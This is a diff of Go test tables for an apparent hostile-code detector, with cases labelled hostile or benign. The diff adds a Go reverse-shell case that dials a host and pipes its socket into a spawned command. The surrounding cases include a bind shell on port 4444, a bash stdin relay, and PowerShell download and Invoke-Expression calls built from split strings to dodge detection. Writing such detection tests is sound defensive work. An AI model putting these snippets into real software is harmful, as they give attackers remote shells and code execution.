@@ -52,6 +52,8 @@ func TestGoReverseShell(t *testing.T) {
 			"\tln, _ := net.Listen(\"tcp\", \":4444\")\n\tfor {\n\t\tc, _ := ln.Accept()\n\t\tsh := exec.Command(pick())\n\t\tsh.Stdin = c\n\t\tsh.Stdout = c\n\t\tgo sh.Run()\n\t}"), crit},
 		"hostile/shell-stdin-only": {goProg("bufio net os/exec", "",
 			"\tconn, _ := net.Dial(\"tcp\", relay)\n\tr := bufio.NewReader(conn)\n\tcmd := exec.Command(\"/bin/bash\", \"-s\")\n\tcmd.Stdin = r\n\t_ = cmd.Run()"), crit},
+		"hostile/goroutine-param": {goProg("net os/exec", "",
+			"\tfor {\n\t\tif c, err := net.Dial(\"tcp\", hub()); err == nil {\n\t\t\tfunc(s net.Conn) {\n\t\t\t\tp := exec.Command(name())\n\t\t\t\tp.Stdin, p.Stdout = s, s\n\t\t\t\t_ = p.Run()\n\t\t\t}(c)\n\t\t}\n\t}"), crit},
 		"benign/local-pipes": {goProg("io os os/exec", "",
 			"\tcmd := exec.Command(\"jq\", \".\")\n\tin, _ := cmd.StdinPipe()\n\tout, _ := cmd.StdoutPipe()\n\t_ = cmd.Start()\n\tgo func() { io.Copy(in, os.Stdin); in.Close() }()\n\tio.Copy(os.Stdout, out)\n\t_ = cmd.Wait()"), none},
 		"benign/ws-client-display": {goProg("io net os os/exec", "",
@@ -88,7 +90,7 @@ func TestPowerShellFlow(t *testing.T) {
 		"hostile/split-type":   {ps1("$w = New-Object ('Net.' + 'Web' + 'Client')\n$w.DownloadFile($u, 'x.zip')"), high},
 		"hostile/split-scheme": {ps1("$u = ('ht' + 'tps://') + \"$h/x\""), high},
 		"hostile/split-method": {ps1("$m = 'Invoke-' + \"Expression\"\n& $m 'Get-Date'"), high},
-		"benign/joined-url":    {ps1("$u = 'https://' + 'api.example.com/v1/'\n$p = 'C:\\Tools\\' + 'bin'\nirm ($u + 'status')"), none},
+		"benign/joined-url":    {ps1("$u = 'https://' + 'api.example.com/v1/'\n$v = 'https' + '://' + $server + ':' + $port\n$p = 'C:\\Tools\\' + 'bin'\nirm ($u + 'status')"), none},
 		"benign/verified":      dl["benign/verified-installer"],
 		"benign/local-sb":      dl["benign/local-scriptblock"],
 	})
